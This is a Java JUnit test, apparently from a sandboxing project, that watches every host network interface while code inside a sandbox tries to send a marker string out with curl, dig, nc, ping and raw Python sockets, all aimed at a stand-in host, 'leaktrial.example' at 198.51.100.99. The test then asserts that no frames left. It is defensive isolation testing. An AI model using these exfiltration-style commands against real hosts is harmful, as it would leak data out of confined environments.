package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.linux.PacketRing;
import io.mcpsf.model.NetworkObservation.FlowOpened;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

/** Every device of the host is watched while everything is tried: nothing crosses any of them. */
@Tag("chamber")
@EnabledIf("io.mcpsf.boundary.Needs#root")
class NothingLeavesTest {

    private static final String MARK = "mcpsf-leak-marker";
    private static final String NAME = "leaktrial.example";
    private static final String ADDRESS =
            new String(
                    InetAddress.ofLiteral("198.51.100.99").getAddress(),
                    StandardCharsets.ISO_8859_1);

    @TempDir Path folder;

    @Test
    void notOneFrame() throws Exception {
        var found = new AtomicInteger();
        var stop = new AtomicBoolean();
        List<Thread> watchers = new ArrayList<>();
        for (NetworkInterface device : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            if (device.isUp()) {
                PacketRing ring = PacketRing.open(device.getName(), 4);
                ring.begin();
                watchers.add(Thread.ofPlatform().daemon().start(() -> watch(ring, stop, found)));
            }
        }
        try (var inside = new Inside(folder, BoundarySpec.Options.plain())) {
            tryEverything(inside);
            inside.await(FlowOpened.class, f -> f.address().equals("198.51.100.99"));
        }
        int crossed = found.get();

        // The guard: what does cross a device of the host is seen.
        byte[] mark = MARK.getBytes(StandardCharsets.US_ASCII);
        try (var socket = new DatagramSocket()) {
            socket.send(new DatagramPacket(mark, mark.length, InetAddress.getLoopbackAddress(), 9));
        }
        long deadline = System.nanoTime() + 5_000_000_000L;
        while (found.get() == crossed && System.nanoTime() < deadline) {
            Thread.onSpinWait();
        }
        stop.set(true);
        for (Thread watcher : watchers) {
            watcher.join();
        }
        assertThat(found.get()).as("the guard was seen").isGreaterThan(crossed);
        assertThat(crossed).as("frames that left").isZero();
    }

    private static void tryEverything(Inside inside) throws Exception {
        inside.run("curl", "-sS", "-m", "10", "-d", MARK, "http://" + NAME + "/");
        inside.run("curl", "-sS", "-m", "10", "-d", MARK, "http://198.51.100.99:8080/");
        inside.run("dig", "+tries=1", "@198.51.100.99", NAME);
        inside.run("sh", "-c", "echo " + MARK + " | nc -u -w 1 198.51.100.99 5353");
        inside.run("sh", "-c", "echo " + MARK + " | nc -u -b -w 1 255.255.255.255 67");
        inside.run("ping", "-c", "1", "-W", "1", "198.51.100.99");
        inside.run("ping", "-c", "1", "-W", "1", "-t", "1", "198.51.100.99");
        inside.run(
                "python3",
                "-c",
                "import socket\n"
                        + "s=socket.socket(socket.AF_INET,socket.SOCK_RAW,254)\n"
                        + "s.sendto(b'"
                        + MARK
                        + "',('198.51.100.99',0))\n"
                        + "p=socket.socket(socket.AF_PACKET,socket.SOCK_RAW)\n"
                        + "p.bind(('eth0',0))\n"
                        + "p.send(b'\\xff'*6+b'\\x02'*6+b'\\x88\\xb5"
                        + MARK
                        + "')");
        for (InetAddress own : hostAddresses()) {
            inside.run("curl", "-sS", "-m", "5", "-d", MARK, "http://" + literal(own) + ":22/");
        }
    }

    private static List<InetAddress> hostAddresses() throws Exception {
        List<InetAddress> own = new ArrayList<>();
        for (NetworkInterface device : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            Collections.list(device.getInetAddresses()).stream()
                    .filter(address -> !address.isLoopbackAddress())
                    .filter(address -> !address.isLinkLocalAddress())
                    .forEach(own::add);
        }
        return own;
    }

    private static String literal(InetAddress address) {
        String text = address.getHostAddress();
        int zone = text.indexOf('%');
        String bare = zone < 0 ? text : text.substring(0, zone);
        return bare.contains(":") ? "[" + bare + "]" : bare;
    }

    private static void watch(PacketRing ring, AtomicBoolean stop, AtomicInteger found) {
        try (ring) {
            while (!stop.get()) {
                ring.read(
                        20,
                        (outgoing, nanos, bytes, frame) -> {
                            String text = new String(frame, StandardCharsets.ISO_8859_1);
                            if (text.contains(MARK)
                                    || text.contains("leaktrial")
                                    || text.contains(ADDRESS)) {
                                found.incrementAndGet();
                            }
                        });
            }
        }
    }
}
